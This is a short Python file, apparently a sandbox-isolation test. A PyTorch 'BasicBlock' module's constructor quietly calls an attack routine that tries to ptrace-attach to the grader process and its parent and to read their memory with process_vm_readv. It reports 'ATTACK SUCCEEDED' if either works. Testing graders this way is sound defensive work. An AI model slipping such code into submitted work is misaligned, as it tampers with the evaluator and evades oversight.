"""Attach to the grader as a debugger would."""

import ctypes
import os

from torch import nn

GRADER = "@GRADER@"


class Segment(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    for process in (int(GRADER), os.getppid()):
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if libc.ptrace(request, process, None, None) == 0:
                raise SystemExit("ATTACK SUCCEEDED: attached")
        here = Segment(ctypes.addressof(buffer), 64)
        there = Segment(id(object), 64)
        if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            raise SystemExit(f"ATTACK SUCCEEDED: {buffer.raw}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
